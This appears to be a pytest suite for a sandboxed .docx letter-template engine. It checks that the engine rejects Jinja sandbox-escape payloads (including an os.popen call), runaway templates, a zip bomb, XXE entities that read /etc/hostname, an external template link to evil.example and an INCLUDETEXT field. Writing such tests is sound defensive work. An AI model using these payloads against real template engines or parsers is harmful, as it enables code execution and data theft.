"""Templates and values that mean harm: told or stopped in seconds; nothing outside the press is touched."""

from __future__ import annotations

import contextlib
import io
import os
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document

from bsc_tui.exports.letter_fields import example_of, schema_of
from bsc_tui.exports.letters import Press, Unsound

SCHEMA, EXAMPLE = schema_of("registration"), example_of("registration")
PATIENCE = 30.0
"""Seconds: the press stops after four of the processor, which a busy machine gives late."""
HOST = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else "no such host"


def template(*lines: str) -> bytes:
    document, file = Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(file)
    return file.getvalue()


def with_part(name: str, change: bytes | tuple[bytes, bytes]) -> bytes:
    """A .docx with another part, or with something put in the place of something in it."""
    before, after = zipfile.ZipFile(io.BytesIO(template("x"))), io.BytesIO()
    with zipfile.ZipFile(after, "w", zipfile.ZIP_DEFLATED) as packed:
        for one in before.namelist():
            content = before.read(one)
            if one == name and isinstance(change, tuple):
                assert change[0] in content
                content = content.replace(*change, 1)
            packed.writestr(one, content)
        if isinstance(change, bytes):
            packed.writestr(name, change)
    return after.getvalue()


def wrong_with(content: bytes, patience: float = PATIENCE) -> str:
    begun = time.monotonic()
    with pytest.raises(Unsound) as caught, Press(content) as press:
        press.check(SCHEMA, EXAMPLE)
    assert time.monotonic() - begun < patience
    return "\n".join(map(str, caught.value.faults))


@pytest.mark.parametrize(
    "text",
    [
        "{{ person|attr('__class__') }}",
        "{{ person['__class__'] }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ joiner() }}",
        "{{ namespace(a=1) }}",
        "{{ '{0.__class__}'.format(person) }}",
        "{{ '%s'|format(person) }}",
        "{{ person|map(attribute='name')|list }}",
        "{{ person.name.upper.__self__ }}",
        "{{ [].append }}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% macro a() %}{% endmacro %}",
        "{% do person.update() %}",
        "{{ dict(a=1) }}",
        "{% for one in sessions recursive %}{{ loop(sessions) }}{% endfor %}",
        "{{ 'x' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
    ],
)
def test_no_way_leads_out_of_the_sandbox(text: str) -> None:
    assert wrong_with(template("Dear", text))


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in range(9999) %}{% for b in range(9999) %}{{ person.name }}{% endfor %}{% endfor %}",
        "{{ person.name" + "|replace('a', 'aaaaaaaaaaaaaaaa')" * 30 + " }}",
        "{% set x = person.name %}" + "{% set x = x ~ x ~ x ~ x %}" * 20 + "{{ x }}",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        "{% if 1 %}" * 500 + "{% endif %}" * 500 + "{% for a in range(9999) %}" * 3 + "{% endfor %}" * 3,
    ],
)
def test_what_grows_without_end_is_stopped(text: str) -> None:
    begun = time.monotonic()
    with contextlib.suppress(Unsound), Press(template(text)) as press:  # or it is bounded, and harmless
        press.check(SCHEMA, EXAMPLE)
    assert time.monotonic() - begun < PATIENCE


def test_a_file_that_unpacks_to_a_gigabyte_is_refused_at_once() -> None:
    bomb = with_part("word/media/huge.xml", b"\0" * 200_000_000)
    assert len(bomb) < 5_000_000
    assert "too large" in wrong_with(bomb)


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    ],
)
def test_entities_are_refused(doctype: bytes) -> None:
    content = with_part("word/document.xml", (b"<w:document", doctype + b"<w:document"))
    told = wrong_with(content)
    assert "DTD" in told
    assert HOST not in told


def test_what_fetches_something_from_outside_is_refused() -> None:
    link = (
        b'<Relationship Id="r99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    told = wrong_with(with_part("word/_rels/document.xml.rels", (b"</Relationships>", link)))
    assert "evil.example" in told
    field = b'<w:p><w:r><w:instrText> INCLUDETEXT "c:\\x.txt" </w:instrText></w:r></w:p><w:sectPr'
    told = wrong_with(with_part("word/document.xml", (b"<w:sectPr", field)))
    assert "INCLUDETEXT" in told


@pytest.mark.parametrize(
    "content", [b"", b"PK\x05\x06" + b"\0" * 18, b"\xd0\xcf\x11\xe0" + b"x" * 600, b"%PDF"]
)
def test_what_is_no_docx_is_told(content: bytes) -> None:
    assert wrong_with(content)


def test_the_place_of_a_fault_in_a_header_is_told() -> None:
    document, file = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "{{ company.nmae }}"
    document.save(file)
    told = wrong_with(file.getvalue())
    assert "“company.nmae”. Is “company.name” meant? › header: {{ company.nmae }}" in told


@pytest.mark.parametrize(
    "value",
    [
        "R&D <x> ]]> &amp; \"'",
        "{{ 7*7 }} {% for %} {# #}",
        "Հակոբյան שלום مرحبا 😀",
        "two\nlines",
        "a\ttab",
        "x" * 40_000,
        "<w:p/>",
        "</w:t><w:br/>",
    ],
)
def test_values_stand_exactly_as_they_are(value: str) -> None:
    with Press(template("{{ person.name }}")) as press:
        letter = press.fill({**EXAMPLE, "person": {"name": value}})
    assert "\n".join(one.text for one in Document(io.BytesIO(letter)).paragraphs) == value


def test_the_press_leaves_no_process_behind() -> None:
    press = Press(template("{{ person.name }}"))
    with press:
        assert press._process is not None
        process = press._process.pid
        press.fill(EXAMPLE)
    with pytest.raises(ProcessLookupError):
        os.kill(process, 0)
